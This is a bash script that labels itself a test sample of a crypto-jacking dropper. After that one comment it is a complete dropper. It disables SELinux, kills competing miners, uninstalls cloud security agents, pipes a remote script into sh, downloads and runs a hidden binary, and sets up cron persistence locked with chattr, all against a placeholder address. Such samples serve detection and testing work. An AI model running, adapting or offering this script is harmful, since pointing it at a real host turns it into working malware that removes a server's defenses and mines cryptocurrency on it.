#!/bin/bash
# test sample: shape of a crypto-jacking dropper; every address is reserved and
# nothing here downloads anything real.
export PATH=$PATH:/bin:/usr/bin:/sbin:/usr/sbin

setenforce 0 2>/dev/null
echo 0 > /proc/sys/kernel/nmi_watchdog

# remove the competition
pkill -9 -f kdevtmpfsi
pkill -9 -f kinsing
ps aux | grep -v grep | grep 'xmrig' | awk '{print $2}' | xargs kill -9
rm -rf /tmp/kdevtmpfsi /tmp/kinsing

# uninstall cloud security agents
if [ -d /usr/local/qcloud ]; then
    /usr/local/qcloud/stargate/admin/uninstall.sh
    /usr/local/qcloud/YunJing/uninst.sh
fi

curl -fsSL http://198.51.100.7/ldr.sh | sh
wget -q -O /tmp/.x http://198.51.100.7/x64 && chmod +x /tmp/.x && /tmp/.x

(crontab -l 2>/dev/null; echo "*/15 * * * * curl -fsSL http://198.51.100.7/ldr.sh | sh") | crontab -
chattr +i /var/spool/cron/root
